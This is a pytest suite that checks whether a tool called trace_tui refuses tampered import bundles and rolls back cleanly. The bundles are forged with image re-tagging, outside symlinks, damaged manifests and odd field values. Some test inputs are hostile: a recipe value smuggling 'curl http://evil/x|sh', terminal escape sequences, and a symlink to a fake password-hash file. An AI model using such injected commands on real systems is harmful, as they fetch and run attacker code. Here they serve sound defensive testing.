"""A bundle comes from elsewhere: nothing in it may change the host beyond what it is for, and a
bad one is refused in one line naming what is wrong, with the host left as it was.

A real Docker engine, real bundles written by `bundle export` (tiny images under their own stage tags)
and then altered the way a forger or a damaged disk would, a real store on disk, the real CLI.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path
from typing import Callable

import pytest
from docker.errors import ImageNotFound

from trace_tui import bundle
from trace_tui.errors import CheckFailed
from trace_tui.store import Store, local_entry

from tests.images_fixtures import (  # noqa: F401 - fixtures
    bundle_signer,
    docker_client,
    make_tiny_image,
    sign_bundle,
    tiny_lock,
    trusted_key_file,
    trusted_keys,
)
from tests.test_bundle_roundtrip import exported, filled_store, stage_lock  # noqa: F401 - fixtures

pytestmark = pytest.mark.docker


# -- helpers: altering a bundle, importing it --------------------------------------------------

def resign(dest: Path, **updates) -> None:
    """Rewrite the bundle manifest as a forger holding a key the site trusts would (or an exporter
    that went wrong): every file's sha256 and size as they are now (links followed), UPDATES to its
    fields, and a new signature, so that only the check under test can refuse it (the signature's
    own refusals are test_bundle_signature's)."""
    manifest = json.loads((dest / "manifest.json").read_text())
    files = {}
    for path in sorted(dest.rglob("*")):
        rel = path.relative_to(dest).as_posix()
        if rel not in ("manifest.json", bundle.SIGNATURE) and path.is_file():
            data = path.read_bytes()
            files[rel] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    manifest.update(files=files, **updates)
    text = json.dumps(manifest, indent=1)
    target = dest / "manifest.json"
    (target.resolve() if target.is_symlink() else target).write_text(text)
    try:
        sign_bundle(dest)
    except (ValueError, OSError):  # a manifest the test made unreadable on purpose: signed as it was
        pass


def edit_json(path: Path, edit: Callable[[dict], None]) -> None:
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data, indent=1))


def rewrite_archive(tar_path: Path, edit: Callable[[str, bytes], bytes | None]) -> None:
    """The image archive with each member's bytes replaced by edit(name, bytes) (None: unchanged): what a
    forger does to the index `docker load` reads."""
    out = io.BytesIO()
    with tarfile.open(tar_path) as src, tarfile.open(fileobj=out, mode="w") as dst:
        for member in src:
            data = src.extractfile(member).read() if member.isreg() else None
            new = edit(member.name, data) if data is not None else None
            if new is not None:
                data = new
                member.size = len(new)
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    tar_path.write_bytes(out.getvalue())


def site_import(dest: Path, tmp_path: Path, client, lock_path: Path | None = None) -> Store:
    site = Store(tmp_path / "site" / "store")
    bundle.import_bundle(dest, store=site, client=client,
                         images_lock_path=lock_path or tmp_path / "site" / "images.lock.json", say=lambda _m: None, keys=trusted_keys())
    return site


def cli_import(dest: Path, tmp_path: Path, *prefix: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "TRACE_TUI_IMAGES_LOCK": str(tmp_path / "cli-site" / "images.lock.json")}
    return subprocess.run([*prefix, sys.executable, "-m", "trace_tui", "bundle", "import", str(dest),
                           "--home", str(tmp_path / "cli-site"), "--trust-key", str(trusted_key_file(tmp_path / "k"))],
                          capture_output=True, text=True, env=env)


def error_line(done: subprocess.CompletedProcess) -> str:
    """The CLI's one error line; it must be the last thing said, and said once, with no traceback."""
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr, done.stderr[-2000:]
    errors = [line for line in done.stderr.splitlines() if line.startswith("trace-tui: error:")]
    assert len(errors) == 1 and done.stderr.rstrip("\n").endswith(errors[0]), done.stderr[-2000:]
    return errors[0]


def image_id(client, ref: str) -> str | None:
    try:
        return client.api.inspect_image(ref)["Id"]
    except ImageNotFound:
        return None


def remove_images(client, lock) -> None:
    """The site has none of the bundle's images (as after carrying it to another machine)."""
    for img in lock.images.values():
        client.images.remove(img.id, force=True)


@pytest.fixture()
def victim(docker_client):
    """An image of this host's that has nothing to do with trace-tui, under its own tag."""
    img = make_tiny_image(docker_client, f"victim-{uuid.uuid4().hex[:8]}")
    yield img.tags[0], img.id
    docker_client.images.remove(img.id, force=True)


# -- 1. a bundle re-points no tag but its own stage images' --------------------------------------

def _tag_train_too(extra: Callable[[object], str]) -> Callable[[str, bytes], bytes | None]:
    """An archive edit: the train image's RepoTags also carry extra(lock)."""
    def edit_for(lock):
        def edit(name: str, data: bytes) -> bytes | None:
            if name != "manifest.json":
                return None
            manifest = json.loads(data)
            for item in manifest:
                if lock.images["train"].tag in (item.get("RepoTags") or []):
                    item["RepoTags"].append(extra(lock))
            return json.dumps(manifest).encode()
        return edit
    return edit_for


@pytest.mark.parametrize("how", ["repo-tags", "repositories", "another-stage-tag", "extra-image"])
def test_an_archive_that_would_tag_anything_else_is_refused(tmp_path, docker_client, exported, victim, how):
    dest, _, lock = exported
    victim_tag, victim_id = victim
    tar = dest / "images" / "stages.tar"
    if how == "repo-tags":  # `docker load` would re-point the host's victim tag to the train image
        rewrite_archive(tar, _tag_train_too(lambda _lock: victim_tag)(lock))
    elif how == "repositories":
        repo, tag = victim_tag.rsplit(":", 1)

        def edit(name, data):
            return json.dumps({**json.loads(data), repo: {tag: "0" * 64}}).encode() if name == "repositories" else None
        rewrite_archive(tar, edit)
    elif how == "another-stage-tag":  # a lock tag, but on another stage's image
        rewrite_archive(tar, _tag_train_too(lambda lk: lk.images["infer"].tag)(lock))
    else:  # an image the lock does not name, riding along
        tar.unlink()
        with open(tar, "wb") as out:
            for chunk in bundle._save_images(docker_client, [img.tag for img in lock.images.values()] + [victim_id]):
                out.write(chunk)
    resign(dest)
    remove_images(docker_client, lock)
    with pytest.raises(CheckFailed) as err:
        site_import(dest, tmp_path, docker_client)
    line = err.value.line()
    assert "images/stages.tar" in line and "\n" not in line
    if how in ("repo-tags", "repositories"):
        assert "would tag" in line and victim_tag in line
    assert image_id(docker_client, victim_tag) == victim_id
    assert all(image_id(docker_client, img.id) is None for img in lock.images.values())  # nothing loaded


@pytest.mark.parametrize("bad_tag", [
    "trace-tui-test/not-a-stage-{hex}:1",  # any other image on the host
    "trace-tui-probe-{hex}:latest",  # an official-library-like name
    "trace-tui/train",  # no tag: would silently become :latest
    "trace-tui/infer:{version}-cpu",  # another stage's
    "trace-tui/train:9.9.9-cpu",  # another version's
    "127.0.0.1:5000/site/trace-tui-infer:{version}-cpu",  # a registry's, but another stage's
])
def test_the_image_lock_may_name_only_trace_tui_stage_tags(tmp_path, docker_client, exported, bad_tag):
    dest, _, lock = exported
    bad = bad_tag.format(hex=uuid.uuid4().hex[:8], version=lock.version)
    ref = bad if ":" in bad.rsplit("/", 1)[-1] else bad + ":latest"  # what Docker would make of it
    before = image_id(docker_client, ref)
    edit_json(dest / "images.lock.json", lambda d: d["images"]["train"].update(tag=bad))
    resign(dest)
    with pytest.raises(CheckFailed, match=r"images\.lock\.json: images\.train\.tag '.*' is not a trace-tui "
                                          r"train image tag") as err:
        site_import(dest, tmp_path, docker_client)
    assert f"trace-tui/train:{lock.version}-cpu" in err.value.line()  # the hint states the rule
    assert not (tmp_path / "site" / "images.lock.json").exists()
    assert image_id(docker_client, ref) == before


def test_the_stage_tag_rule():
    ok = ["trace-tui/train:0.1.0-cpu", "127.0.0.1:5000/site/trace-tui-train:0.1.0-cpu",
          "registry.example.org/a/b/trace-tui-train:0.1.0-cpu", "localhost/trace-tui-train:0.1.0-cpu",
          "reg:5000/trace-tui-train:0.1.0-cpu"]
    bad = ["trace-tui/train", "trace-tui/train:latest", "trace-tui/train:0.1.0-gpu", "trace-tui/infer:0.1.0-cpu",
           "ubuntu:latest", "evil/trace-tui-train:0.1.0-cpu",  # docker.io/evil/...: not a site registry's name
           "trace-tui/trainx:0.1.0-cpu", "x/trace-tui/train:0.1.0-cpu", "trace-tui/train:0.1.0-cpu\n"]
    assert all(bundle.is_stage_tag(tag, "train", "0.1.0", "cpu") for tag in ok)
    assert not any(bundle.is_stage_tag(tag, "train", "0.1.0", "cpu") for tag in bad)
    # docker refuses a '+' in a tag: a lock version with one cannot make a stage tag
    assert not bundle.is_stage_tag("trace-tui/train:0.1.0+local-cpu", "train", "0.1.0+local", "cpu")


def test_site_registry_tags_import(tmp_path, docker_client, stage_lock, filled_store):
    """A lock whose tags are a site registry's (host:port/ns/trace-tui-STAGE) imports: the port's ':' is not
    the tag's."""
    ns = f"site-{uuid.uuid4().hex[:6]}"
    lock = stage_lock.model_copy(update={"images": {
        stage: img.model_copy(update={"tag": f"127.0.0.1:5000/{ns}/trace-tui-{stage}:{stage_lock.version}-cpu"})
        for stage, img in stage_lock.images.items()}})
    store, entries = filled_store
    dest = tmp_path / "bundle"
    bundle.export_bundle(dest, recipe="demo", entries=entries, store=store, images_lock=lock, client=docker_client,
                         say=lambda _m: None, wheelhouse=False, signer=bundle_signer())  # saved by id: the images do not carry these tags
    remove_images(docker_client, lock)
    site_import(dest, tmp_path, docker_client)
    for img in lock.images.values():
        assert image_id(docker_client, img.tag) == img.id


# -- 2. a refused bundle leaves the host as it was --------------------------------------------

def _add_bad_entry(dest: Path, entries: list[str]) -> str:
    """A local entry whose record's sha256set does not match its files: only the store's verifying
    import finds that, after the good entries before it were imported."""
    good = next((dest / "store" / "local").iterdir())
    bad_dir = dest / "store" / "local" / "model--bad"
    shutil.copytree(good, bad_dir)
    edit_json(bad_dir / "manifest.json", lambda r: r.update(name="local:model/bad", sha256set="sha256set:" + "0" * 64))
    resign(dest, entries=[*entries, "local:model/bad"])
    return "local:model/bad"


def test_an_entry_refused_in_staging_undoes_the_entries_before_it(tmp_path, docker_client, exported):
    dest, manifest, lock = exported
    _add_bad_entry(dest, manifest.entries)
    remove_images(docker_client, lock)
    lock_path = tmp_path / "site" / "images.lock.json"
    lock_path.parent.mkdir(parents=True)
    lock_path.write_text('{"site": "previous lock"}\n')
    with pytest.raises(CheckFailed) as err:
        site_import(dest, tmp_path, docker_client, lock_path)
    line = err.value.line()
    (good,) = manifest.entries
    assert "importing store entry local:model/bad" in line and "sha256set" in line and "\n" not in line
    assert f"removed the store entries it had added ({good})" in line and "was not written" in line
    site = Store(tmp_path / "site" / "store")
    assert site.record(good) is None and site.record("local:model/bad") is None
    assert all(image_id(docker_client, img.id) is None for img in lock.images.values())
    assert all(image_id(docker_client, img.tag) is None for img in lock.images.values())
    assert lock_path.read_text() == '{"site": "previous lock"}\n'


def test_a_failure_after_loading_takes_images_and_tags_back_and_leaves_what_was_there(
        tmp_path, docker_client, exported):
    dest, manifest, lock = exported
    (good,) = manifest.entries
    site = Store(tmp_path / "site" / "store")
    bundle._import_entry(site, good, dest, lambda _m: None)  # the entry is already in the site's store
    before = site.record(good)
    remove_images(docker_client, lock)
    previous = make_tiny_image(docker_client, f"previous-{uuid.uuid4().hex[:8]}")
    train_tag = lock.images["train"].tag
    docker_client.api.tag(previous.id, *train_tag.rsplit(":", 1))  # the site's train tag names another image
    lock_path = tmp_path / "site" / "lock-is-a-folder"
    (lock_path / "x").mkdir(parents=True)  # the lock cannot be written: the last step fails
    try:
        with pytest.raises(CheckFailed) as err:
            site_import(dest, tmp_path, docker_client, lock_path)
        line = err.value.line()
        assert f"writing the image lock {lock_path}" in line and "\n" not in line
        assert "removed the images it had loaded" in line and f"tag {train_tag} restored" in line
        assert f"left as they are: store entries that were already here, imported again ({good})" in line
        assert image_id(docker_client, train_tag) == previous.id
        for stage in ("infer", "score"):
            assert image_id(docker_client, lock.images[stage].tag) is None
        assert all(image_id(docker_client, img.id) is None for img in lock.images.values())
        assert site.record(good).sha256set == before.sha256set
    finally:
        docker_client.images.remove(previous.id, force=True)


def test_an_archive_docker_cannot_load_is_one_line_and_undone(tmp_path, docker_client, exported):
    """Its index is sound, but a layer it names is not in it: only `docker load` finds that, after the store
    entries were imported."""
    dest, manifest, lock = exported

    def drop_layer(name, data):
        if name != "manifest.json":
            return None
        images = json.loads(data)
        images[0]["Layers"] = ["0" * 64 + "/layer.tar"]
        return json.dumps(images).encode()
    rewrite_archive(dest / "images" / "stages.tar", drop_layer)
    resign(dest)
    remove_images(docker_client, lock)
    with pytest.raises(CheckFailed) as err:
        site_import(dest, tmp_path, docker_client)
    line = err.value.line()
    assert "bundle import failed loading images/stages.tar: docker load of images/stages.tar failed" in line
    assert f"removed the store entries it had added ({manifest.entries[0]})" in line and "\n" not in line
    assert Store(tmp_path / "site" / "store").record(manifest.entries[0]) is None
    assert all(image_id(docker_client, img.tag) is None for img in lock.images.values())


# -- 3. the image lock holds every stage, and the manifest agrees with it -----------------------

def test_an_empty_image_lock_is_refused_and_the_site_lock_kept(tmp_path, docker_client, exported):
    dest, _, _ = exported
    shutil.rmtree(dest / "images")
    edit_json(dest / "images.lock.json", lambda d: d.update(images={}))
    resign(dest, images={})
    lock_path = tmp_path / "site" / "images.lock.json"
    with pytest.raises(CheckFailed, match="one image for each stage, train, infer, score"):
        site_import(dest, tmp_path, docker_client, lock_path)
    assert not lock_path.exists()


def test_the_manifest_images_must_be_the_locks(tmp_path, docker_client, exported):
    dest, manifest, lock = exported
    resign(dest, images={**manifest.images, "train": lock.images["infer"].id})
    with pytest.raises(CheckFailed, match=r"manifest\.json: images\.train is sha256:.*, the bundle's image lock says"):
        site_import(dest, tmp_path, docker_client)


@pytest.mark.parametrize("field,value", [("schema_version", "trace-tui-bundle-v9"),
                                         ("trace_tui_version", "1.0\n\x1b[2J")])
def test_an_unknown_schema_or_odd_version_is_refused(tmp_path, docker_client, exported, field, value):
    dest, _, _ = exported
    resign(dest, **{field: value})
    with pytest.raises(CheckFailed, match=rf"not a valid bundle manifest: field '{field}'") as err:
        site_import(dest, tmp_path, docker_client)
    assert "\n" not in err.value.line() and "\x1b" not in err.value.line()


# -- 4. nothing in a bundle is a symbolic link --------------------------------------------------

@pytest.mark.parametrize("what", ["images.lock.json", "notes.txt", "manifest.json", "store/local/model--o"])
def test_a_symbolic_link_anywhere_refuses_the_bundle_before_reading_it(tmp_path, docker_client, exported, what):
    dest, manifest, _ = exported
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret"
    secret.write_text("root:$6$not-for-bundles\n")
    secret.chmod(0o600)
    entries = manifest.entries
    if what == "notes.txt":
        (dest / what).symlink_to(secret)
    elif what == "store/local/model--o":  # an entry from outside the bundle
        real = next((dest / "store" / "local").iterdir())
        shutil.copytree(real, outside / "o")
        edit_json(outside / "o" / "manifest.json", lambda r: r.update(name="local:model/o"))
        (dest / what).symlink_to(outside / "o")
        entries = [*entries, "local:model/o"]
    else:
        shutil.move(dest / what, outside / what)
        (dest / what).symlink_to(outside / what)
    resign(dest, entries=entries)
    with pytest.raises(CheckFailed, match=rf"bundle refused: {what} is a symbolic link") as err:
        site_import(dest, tmp_path, docker_client)
    assert hashlib.sha256(secret.read_bytes()).hexdigest() not in err.value.line()
    assert Store(tmp_path / "site" / "store").record("local:model/o") is None


# -- 5. every damaged part is one line naming the file ------------------------------------------

def _entry_manifest(text: str):
    def damage(dest: Path, manifest, lock) -> list[str]:
        folder = dest / "store" / "local" / "model--e"
        folder.mkdir(parents=True)
        (folder / "manifest.json").write_text(text)
        return [*manifest.entries, "local:model/e"]
    return damage


def _manifest_is_a_folder(dest: Path, manifest, lock) -> None:
    (dest / "manifest.json").unlink()
    (dest / "manifest.json").mkdir()


def _lock_tags_docker_refuses(dest: Path, manifest, lock) -> None:
    def edit(d):
        d["version"] = "0.0.0+local"
        for stage, img in d["images"].items():
            img["tag"] = f"trace-tui/{stage}:0.0.0+local-cpu"
    edit_json(dest / "images.lock.json", edit)


DAMAGES = {
    "manifest-is-a-folder": (_manifest_is_a_folder, r"manifest\.json: not a plain file"),
    "entry-with-no-folder": (lambda d, m, lk: [*m.entries, "local:model/ghost"],
                             r"entry local:model/ghost has no folder store/local/model--ghost"),
    "entry-record-a-list": (_entry_manifest("[1]"), r"model--e/manifest\.json: not a store entry record"),
    "entry-record-cut-short": (_entry_manifest("{"), r"model--e/manifest\.json: not a store entry record"),
    "entry-record-100k-deep": (_entry_manifest("[" * 100_000 + "]" * 100_000),
                               r"model--e/manifest\.json: not a store entry record"),
    "image-lock-empty-object": (lambda d, m, lk: (d / "images.lock.json").write_text("{}"),
                                r"images\.lock\.json: not a valid image lock: field 'flavor': Field required"),
    "archive-is-garbage": (lambda d, m, lk: (d / "images" / "stages.tar").write_text("garbage\n"),
                           r"images/stages\.tar: not an image archive `docker save` writes"),
    "lock-tag-docker-refuses": (_lock_tags_docker_refuses,
                                r"images\.train\.tag 'trace-tui/train:0\.0\.0\+local-cpu' is not a trace-tui train"),
    "manifest-field-wrong-type": (lambda d, m, lk: {"entries": "x"},
                                  r"not a valid bundle manifest: field 'entries': Input should be a valid "
                                  r"(list|array), found 'x'"),
}


@pytest.mark.parametrize("damage", sorted(DAMAGES))
def test_a_damaged_bundle_is_one_line_naming_the_file(tmp_path, exported, damage):
    dest, manifest, lock = exported
    make, needle = DAMAGES[damage]
    changed = make(dest, manifest, lock)
    if damage != "manifest-is-a-folder":
        updates = changed if isinstance(changed, dict) else {"entries": changed} if isinstance(changed, list) else {}
        resign(dest, **updates)
    done = cli_import(dest, tmp_path)
    assert done.returncode == 1, done.stderr[-2000:]
    assert re.search(needle, error_line(done)), done.stderr[-2000:]


@pytest.mark.skipif(not shutil.which("setpriv"), reason="setpriv (util-linux) drops root's capabilities")
def test_an_unreadable_bundle_file_is_one_line_naming_it(tmp_path, exported):
    dest, _, _ = exported
    (dest / "images.lock.json").chmod(0)
    # root reads any file (CAP_DAC_OVERRIDE); without those capabilities, 0000 is unreadable for real
    prefix = ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner",
              "--inh-caps=-dac_override,-dac_read_search,-fowner"] if os.geteuid() == 0 else []
    done = cli_import(dest, tmp_path, *prefix)
    assert done.returncode == 1, done.stderr[-2000:]
    assert "images.lock.json: cannot be read (Permission denied)" in error_line(done)


# -- 6. the recipe a bundle names is a recipe name, printed safely -------------------------------

def test_a_recipe_that_is_not_a_recipe_name_is_refused(tmp_path, exported):
    dest, _, _ = exported
    resign(dest, recipe="full; curl http://evil/x|sh #\n\x1b[31mRED")
    done = cli_import(dest, tmp_path)
    assert done.returncode == 1
    line = error_line(done)
    assert "field 'recipe'" in line and "\x1b" not in done.stderr and "|sh #\n" not in done.stderr


def test_a_bundle_of_a_custom_recipe_says_to_run_its_file(tmp_path, exported):
    dest, _, _ = exported
    resign(dest, recipe="my-own-recipe")
    done = cli_import(dest, tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "recipe my-own-recipe is not one this trace-tui ships: run `trace-tui --recipe FILE.yaml --offline`" \
        in done.stderr


# -- 7. a folder that is not a bundle is bad input ------------------------------------------------

def test_an_empty_folder_is_bad_input_exit_2(tmp_path):
    (tmp_path / "empty").mkdir()
    done = cli_import(tmp_path / "empty", tmp_path)
    assert done.returncode == 2
    assert "is not a trace-tui bundle" in error_line(done)


# -- 8. export never makes a file more readable than the store has it ----------------------------

def test_export_never_widens_a_private_store_file(tmp_path, docker_client, stage_lock, filled_store):
    store, entries = filled_store
    private = tmp_path / "private.bin"
    private.write_bytes(b"not for everyone")
    private.chmod(0o600)
    name = local_entry("dataset", "private")
    store.import_local(name, private)
    dest = tmp_path / "bundle"
    bundle.export_bundle(dest, recipe="demo", entries=[*entries, name], store=store, images_lock=stage_lock,
                         client=docker_client, say=lambda _m: None, wheelhouse=False, signer=bundle_signer())
    (copy,) = (dest / "store" / "local" / "dataset--private" / "files").iterdir()
    assert stat.S_IMODE(copy.stat().st_mode) & 0o077 == 0
    public = next(p for p in (dest / "store").rglob("*.parquet"))
    assert stat.S_IMODE(public.stat().st_mode) & 0o044 == 0o044  # a public file stays readable
